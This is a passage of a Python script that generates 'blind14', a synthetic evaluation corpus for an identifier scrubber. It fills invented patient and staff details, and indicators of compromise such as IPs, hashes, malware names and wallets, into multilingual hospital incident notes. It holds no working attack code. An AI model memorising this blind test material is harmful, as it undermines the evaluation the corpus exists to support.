               c=["Өфө", "Стәрлетамаҡ", "Нефтекама", "Ишембай"], st=["Ленин урамы, {n}", "Мостай Кәрим урамы, {n}"], ph="+7 917 {a3}-{a2}-{a2}", df="dot",
               A="Ауырыу {pat} ({dob} тыуған, карта һаны {mrn}) {addr}, {city} йәшәй, уға {aphone} һанынан шылтыратҡандар; был кеше аҡса һәм паспорт һанын һораған.",
               B="{user} ҡулланыусының {host} ({ip}) компьютеры {dom} адресына мәғлүмәт ебәргән.", C="Яҙҙы {staff}, телефон {phone}.", H="Ваҡиға"),
    "rm": dict(loc="rm_CH", g=["Gian", "Ursina", "Reto", "Mirta", "Flurin", "Ladina"], s=["Caduff", "Cathomen", "Derungs", "Casutt", "Gartmann", "Tschuor"],
               c=["Glion", "Mustér", "Scuol", "Samedan"], st=["Via {n} Principala", "Stradun {n}"], ph="+41 7{a1} {a3} {a2} {a2}", df="dot",
               A="Il pazient {pat} (naschì ils {dob}, numer dal dossier {mrn}), che abita a {addr}, {city}, ha survegnì in clom da {aphone}; la persuna ha dumandà daners ed il numer d'identitad.",
               B="Il computer {host} ({ip}) da l'utilisader {user} ha tramess datas a {dom}.", C="Rapport da {staff}, telefon {phone}.", H="Rapport d'incident"),
    "se": dict(loc="se_NO", g=["Ánte", "Máret", "Ásllat", "Elle", "Niillas", "Biret"], s=["Sara", "Gaup", "Eira", "Somby", "Hætta", "Buljo"],
               c=["Kárášjohka", "Guovdageaidnu", "Ohcejohka", "Unjárga"], st=["Geaidnu {n}", "Márkangeaidnu {n}"], ph="+47 9{a2} {a2} {a3}", df="dot",
               A="Buohcci {pat} (riegádan {dob}, journálanummir {mrn}) orru {addr}, {city}, ja son oaččui telefovdna nummiris {aphone}; olmmoš bivddii ruđa ja persovdnanummira.",
               B="Geavaheaddji {user} dihtor {host} ({ip}) sáddii dieđuid {dom} čujuhussii.", C="Čálii {staff}, telefovdna {phone}.", H="Dáhpáhus"),
    "kl": dict(loc="kl_GL", g=["Aqqaluk", "Naja", "Kaali", "Nivi", "Paninnguaq", "Ulloriaq"], s=["Kleist", "Lynge", "Berthelsen", "Kreutzmann", "Olsen", "Motzfeldt"],
               c=["Nuuk", "Sisimiut", "Ilulissat", "Qaqortoq"], st=["Aqqusinersuaq {n}", "Qupanuk {n}"], ph="+299 {a2} {a2} {a2}", df="dash",
               A="Napparsimasoq {pat} (inunngorpoq {dob}, normu {mrn}) {addr}, {city} najugaqarpoq, {aphone}-imit sianerfigineqarpoq; inuk taanna aningaasanik personnummerimillu piumasaqarpoq.",
               B="Atuisup {user} qarasaasiaa {host} ({ip}) paasissutissanik {dom}-imut nassiussivoq.", C="Allattoq {staff}, oqarasuaat {phone}.", H="Pisoq"),
    "ee": dict(loc="ee_GH", g=["Yawa", "Selasi", "Dzifa", "Kwami", "Elikem", "Edem"], s=["Agbeko", "Amegashie", "Dzidzienyo", "Kpodo", "Tsikata", "Gbeho"],
               c=["Hohoe", "Keta", "Aflao", "Kpando"], st=["Plot {n} Bankoe", "House {n} Dome"], ph="+233 2{a1} {a3} {a4}", df="slash",
               A="Dɔnɔ {pat} (wodzii le {dob}, agbalẽ xexlẽdzesi {mrn}) si le {addr}, {city}, xɔ telefon tso {aphone} gbɔ; ame la bia ga kple eƒe ID xexlẽdzesi.",
               B="Zãla {user} ƒe kɔmpiuta {host} ({ip}) ɖo nyatakakawo ɖe {dom}.", C="Nuŋlɔla {staff}, telefon {phone}.", H="Nudzɔdzɔ"),
    "ay": dict(loc="ay_BO", g=["Rufino", "Marcelina", "Tiburcio", "Nemesia", "Calixto", "Eulalia"], s=["Mamani", "Quispe", "Condori", "Choque", "Apaza", "Huanca"],
               c=["El Alto", "Achacachi", "Viacha", "Pucarani"], st=["Calle {n} Villa Adela", "Avenida Juan Pablo II {n}"], ph="+591 7{a3}{a4}", df="slash",
               A="Usuta {pat} ({dob} uru yuriwayi, qillqata jakhu {mrn}) {addr}, {city} jakasi, {aphone} jakhut jawsapxi; uka jaqix qullqi ukat ID jakhu mayiwayi.",
               B="Apnaqiri {user} jupan computadorapa {host} ({ip}) {dom} ukar willt'ayi.", C="Qillqiri {staff}, telefono {phone}.", H="Luraña"),
    "ty": dict(loc="ty_PF", g=["Teva", "Moana", "Hina", "Tehani", "Manutea", "Vaimiti"], s=["Teriitahi", "Tetuanui", "Temauri", "Tauraa", "Maitai", "Tehei"],
               c=["Papeete", "Punaauia", "Pirae", "Mahina"], st=["Servitude {n} Tipaerui", "PK {n} côté mer"], ph="+689 87 {a2} {a2} {a2}", df="slash",
               A="Te ma'i {pat} (fanau i te {dob}, numera puta {mrn}) e noho i {addr}, {city}, ua niuniuhia oia e {aphone}; ua ani taua ta'ata ra i te moni e te numera ID.",
               B="Te roro uira {host} ({ip}) a {user} ua hapono i te mau parau i {dom}.", C="Papa'ihia e {staff}, niuniu {phone}.", H="Parau faaite"),
    "bm": dict(loc="bm_ML", g=["Moussa", "Aminata", "Seydou", "Kadiatou", "Bakary", "Fatoumata"], s=["Traoré", "Diarra", "Coulibaly", "Keïta", "Sangaré", "Dembélé"],
               c=["Ségou", "Sikasso", "Kayes", "Koutiala"], st=["Rue {n} Hamdallaye", "Porte {n} Badalabougou"], ph="+223 7{a1} {a2} {a2} {a2}", df="slash",
               A="Banabagatɔ {pat} (bangera {dob}, kayidi nimɔrɔ {mrn}) sigilen bɛ {addr}, {city}, a weelela ka bɔ {aphone} la; o mɔgɔ ye wari ni pasipɔri nimɔrɔ ɲini.",
               B="Baarakɛla {user} ka ɔridinatɛri {host} ({ip}) ye kunnafoniw ci {dom} ma.", C="Sɛbɛnnikɛla {staff}, telefɔni {phone}.", H="Kibaru"),
}


HOSPWORD = {"bi": "Haospitel", "tet": "Ospitál", "rn": "Ibitaro rya", "ts": "Xibedlhele xa", "ve": "Sibadela tsha",
            "ss": "Sibhedlela sase", "aa": "Hospitaal", "kg": "Lupitalu ya", "mh": "Aujpitōļ in", "gil": "Ospitaal",
            "sah": "балыыһата", "cv": "больници", "ba": "дауаханаһы", "rm": "Ospital", "se": "buohcciviessu",
            "kl": "Napparsimmavik", "ee": "Kɔdzi", "ay": "Hospital", "ty": "Fare ma'i", "bm": "Dɔgɔtɔrɔso"}
POSTPOSED = {"sah", "cv", "ba", "se", "kl", "ee", "bm"}


def lphone(fmt):
    out = fmt
    for key, n in (("{a1}", 1), ("{a2}", 2), ("{a3}", 3), ("{a4}", 4)):
        while key in out:
            out = out.replace(key, digits(n), 1)
    return out


def make_lang(code):
    L = LANGS[code]

    def style(c):
        used = c.used
        pf, pl = foreign_person((L["g"], L["s"]), used)
        sf, sl = foreign_person((L["g"], L["s"]), used)
        city = pick(L["c"])
        ocity = pick(L["c"])
        hw = HOSPWORD[code]
        c.name = f"{ocity} {hw}" if code in POSTPOSED else f"{hw} {ocity}"
        cc = L["loc"].split("_")[1].lower()
        tld = "co.za" if cc == "za" else cc
        if ind.is_latin(ocity):
            c.domain = f"{ind.slug(ocity)}{pick(['-hosp', 'health', '-med'])}.{tld}"
            c.short = "".join(w[0] for w in ind.ascii_fold(c.name).replace("-", " ").split()).upper() + "H"
        else:
            c.domain = f"{code}{rint(2, 9)}-med.{tld}"
            c.short = code.upper() + "MH"
        staff_latin = all(ord(ch) < 0x250 for ch in sf)
        suser = f"{ind.slug(ind.ascii_fold(sf))[:1]}{ind.slug(ind.ascii_fold(sl))}" if staff_latin else f"u{rint(1000, 9999)}"
        d = Doc()
        slots = dict(
            pat=I(f"{pf} {pl}", "NAME"), dob=I(dob(L["df"]), "DATE"), mrn=I(f"{rint(10, 99)}-{rint(10000, 99999)}", "MRN"),
            addr=I(pick(L["st"]).replace("{n}", str(rint(1, 199))), "ADDRESS"), city=I(city, "CITY"),
            aphone=X(lphone(L["ph"]), "PHONE_ATTACKER"), host=I(c.host(), "HOSTNAME"), ip=I(ind.private_ipv4(R), "IP"),
            user=I(suser, "USERNAME"), dom=X(ind.domain(R), "DOMAIN"), staff=I(f"{sf} {sl}", "NAME"), phone=I(lphone(L["ph"]), "PHONE"))
        frame = rint(0, 2)
        if frame == 1:
            d.t("From: ").put(I(f"{sf} {sl}", "NAME")).t(" <").put(I(f"{suser}@{c.domain}", "EMAIL")).t(">\nTo: security@").put(I(c.domain, "HOSTNAME")) \
                .t("\nSubject: ").t(L["H"]).t(" - ").put(I(c.name, "ORG")).t("\n\n")
        elif frame == 2:
            d.put(I(c.name, "ORG")).t(" | ").t(L["H"]).t("\n")
        else:
            d.t(L["H"]).t(" — ").put(N(f"2026-{rint(9, 11):02d}-{rint(1, 28):02d}", "EVENTDATE")).t("\n")
        parts = [L["A"], L["B"]]
        if R.random() < 0.5:
            parts.reverse()
        for p in parts:
            d.fill(p, **{k: v for k, v in slots.items() if "{" + k + "}" in p}).t("\n")
        if R.random() < 0.6:
            k = rint(0, 2)
            d.t("IOC: ")
            if k == 0:
                d.put(X(ind.public_ipv4(R), "IPV4")).t(", ").put(X(ind.sha256(R), "SHA256"))
            elif k == 1:
                d.put(X(ind.url(R), "URL")).t(", ").put(X(pick(ind.MALWARE), "MALWARE"))
            else:
                d.put(X(wallet(), "WALLET")).t(", ").put(X(pick(ind.RANSOM), "MALWARE"))
            d.t("\n")
        d.fill(L["C"], staff=slots["staff"], phone=slots["phone"]).t("\n")
        return d, L["loc"]
    return style


# ---------------------------------------------------------------- registry and checks

STYLES = [
    ("netlogon-log", s_netlogon), ("clearpass-access-tracker-csv", s_clearpass), ("f5-apm-session-log", s_f5apm),
    ("netscaler-aaa-syslog", s_netscaler), ("rdgateway-events-csv", s_rdgw), ("nutanix-prism-audit-jsonl", s_nutanix),
    ("slack-audit-logs-jsonl", s_slackaudit), ("dropbox-team-activity-csv", s_dropbox), ("docusign-envelope-history", s_docusign),
    ("github-audit-log-jsonl", s_github), ("salesforce-login-history-csv", s_salesforce), ("confluence-audit-csv", s_confluence),
    ("rsa-am-authn-log", s_rsa), ("snort-fast-alert", s_snort), ("modsecurity-audit-log", s_modsec), ("exim-mainlog", s_exim),
    ("redox-engine-log-jsonl", s_redox), ("pgaudit-log", s_pgaudit), ("beyondtrust-session-report", s_beyondtrust),
    ("varonis-alert-email", s_varonis), ("shibboleth-idp-audit-log", s_shib),
    ("ke-sha-preauth-form", s_ke_sha), ("gh-nhis-claim-form", s_gh_nhis), ("br-sus-notificacao", s_br_sus),
    ("de-dsgvo-egk-meldung", s_de_egk), ("mx-imss-reporte-incidente", s_mx_imss), ("nz-nhi-privacy-breach-report", s_nz_nhi),
    ("hhs-ocr-finding-letter", s_hhs_letter), ("password-reset-callback-log", s_pwreset), ("returned-mail-log", s_returned),
    ("portal-account-merge-request", s_merge), ("funds-recall-request", s_wirerecall), ("sim-swap-affidavit", s_simswap),
    ("diversion-investigation-summary", s_diversion), ("misdirected-fax-log", s_misfax),
] + [(f"incident-note-{k}", make_lang(k)) for k in LANGS]

JSONL_STYLES = {"nutanix-prism-audit-jsonl", "slack-audit-logs-jsonl", "github-audit-log-jsonl", "redox-engine-log-jsonl"}


def bounded(text, s):
    return re.compile(r"(?<!\w)" + re.escape(s) + r"(?!\w)", re.IGNORECASE)


def verify(rec):
    t = rec["text"]
    ids = rec["identifiers"]
    allsp = ids + rec["indicators"] + rec.get("neutral", [])
    allsp.sort(key=lambda s: s["start"])
    for a, b in zip(allsp, allsp[1:]):
        if a["end"] > b["start"]:
            return False
    def inside(a, b, spans):
        return any(s["start"] <= a and b <= s["end"] for s in spans)
    needles = set()
    for s in ids:
        v = t[s["start"]:s["end"]]
        if len(v) >= 4:
            needles.add(v)
        if s["type"] == "NAME":
            for p in re.split(r"[\s,^_.%]+|2C", v):
                if len(p) >= 4:
                    needles.add(p)
    org = rec.get("org") or {}
    if org.get("name"):
        needles.add(org["name"])
    for n in sorted(needles):
        for m in bounded(t, n).finditer(t):
            if not inside(m.start(), m.end(), ids):
                return False
    for dm in org.get("domains", []):
        for m in re.finditer(re.escape(dm), t, re.IGNORECASE):
            if not inside(m.start(), m.end(), allsp):
                return False
    # identifier values must not leak into indicators and vice versa
    for s in rec["indicators"]:
        v = t[s["start"]:s["end"]]
        for n in needles:
            if len(n) >= 4 and re.search(r"(?<!\w)" + re.escape(n) + r"(?!\w)", v, re.IGNORECASE):
                return False
    if rec["style"] in JSONL_STYLES:
        for line in t.splitlines():
            if line.strip():
                json.loads(line)
    return True


def build():
    recs = []
    for i in range(NDOCS):
        name, fn = STYLES[i % len(STYLES)]
        for attempt in range(200):
            c = Ctx()
            d, loc = fn(c)
            rec = record(f"blind14-{i + 1:04d}", d, name, loc, c.org())
            if verify(rec):
                break
        else:
            raise SystemExit(f"could not draw a valid document for {name}")
        for s in rec["identifiers"] + rec["indicators"] + rec.get("neutral", []):
            assert rec["text"][s["start"]:s["end"]].strip() == rec["text"][s["start"]:s["end"]]
        recs.append(rec)
    return recs


NOTES = ("blind14: written without opening the scrubber, its results, score.py, the other generators "
         "or any corpus's documents; frozen before any scrubber was run on it (see README.md). Styles: "
         "21 machine-made (US organizations), 14 paperwork and messages (six from Kenya, Ghana, Brazil, "
         "Germany, Mexico and New Zealand, eight from US organizations), 20 languages (incident-note-*).")


def render(recs):
    lines = "".join(json.dumps(r, ensure_ascii=False, sort_keys=False) + "\n" for r in recs)
    return lines


def main():
    recs = build()
    if "--check" in sys.argv:
        import tempfile
        with tempfile.TemporaryDirectory() as tmp:
            p, m = os.path.join(tmp, "c.jsonl"), os.path.join(tmp, "M.md")
            spandoc.write_corpus(p, recs)
            spandoc.manifest(m, "blind14 — manifest", "blind14/blind14.jsonl", SEED, "gen/gen_blind14.py", recs, NOTES)
            ok = True
            for a, b in ((p, OUT), (m, MAN)):
                with open(a, "rb") as fa, open(b, "rb") as fb:
                    if fa.read() != fb.read():
                        print(f"DIFFERS: {b}")
                        ok = False
        # re-verify the file on disk span by span
        with open(OUT, encoding="utf-8") as f:
            for line in f:
                r = json.loads(line)
                assert verify(r), r["id"]
        print("check: ok" if ok else "check: FAILED")
        sys.exit(0 if ok else 1)
    os.makedirs(os.path.dirname(OUT), exist_ok=True)
    h = spandoc.write_corpus(OUT, recs)
    spandoc.manifest(MAN, "blind14 — manifest", "blind14/blind14.jsonl", SEED, "gen/gen_blind14.py", recs, NOTES)
    print(len(recs), "documents, sha256", h)


if __name__ == "__main__":
    main()
